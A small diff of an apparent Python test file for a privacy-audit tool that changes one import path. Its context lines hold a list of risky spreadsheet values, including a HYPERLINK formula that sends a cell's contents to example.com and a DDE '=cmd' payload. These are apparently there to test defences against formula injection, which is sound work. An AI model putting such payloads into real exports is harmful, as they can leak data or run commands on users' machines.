@@ -2,7 +2,7 @@
 
 import json
 
-from privacy_audit.reports.jsonfile import findings_json
+from privacy_audit.reports.results_json import findings_json
 from support.bench import make_firm, request, write_register
 
 RISKY = ['=HYPERLINK("http://example.com/?x="&A1,"Pay")', "=cmd|'/c calc'!A1", "+44 20 7946 0000", "-2+3"]
